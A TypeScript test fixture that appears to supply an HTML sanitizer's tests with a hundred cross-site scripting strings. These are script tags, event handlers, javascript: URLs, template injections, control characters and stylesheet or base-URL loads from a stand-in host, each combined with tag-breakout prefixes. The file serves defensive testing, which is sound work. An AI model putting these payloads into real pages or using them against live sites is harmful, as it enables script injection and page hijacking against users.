// Texts that are code to a page which takes them for markup, each of which would leave `pwned` behind.
const ACTS = [
  '<script>pwned=1</script>',
  '<img src=x onerror=pwned=1>',
  '<svg/onload=pwned=1>',
  '<iframe srcdoc="<script>parent.pwned=1</script>">',
  '<body onload=pwned=1>',
  '<input autofocus onfocus=pwned=1>',
  '<details open ontoggle=pwned=1>',
  '<math><mi//xlink:href="javascript:pwned=1">',
  '<a href="javascript:pwned=1" id=lure>click</a>',
  '<style>@import "//evil.example/x.css"</style>',
  '<link rel=stylesheet href=//evil.example/x.css>',
  '<base href=//evil.example/>',
  '<object data="data:text/html,<script>pwned=1</script>">',
  '<video><source onerror=pwned=1>',
  'javascript:pwned=1',
  // biome-ignore lint/suspicious/noTemplateCurlyInString: it is no template here, and must not become one there
  '${globalThis.pwned=1}',
  '{{constructor.constructor("pwned=1")()}}',
  '\u202Egnp.exe',
  '\u2066\u2069\u200F\u0000\uFEFF',
  'A'.repeat(5000),
] as const;

/** Ways out of where a text may stand. */
const BREAKS = ['', '">', "'>", '</title></textarea>', '-->'] as const;

/** A hundred hostile texts. */
export const HOSTILE: readonly string[] = BREAKS.flatMap((exit) => ACTS.map((act) => exit + act));
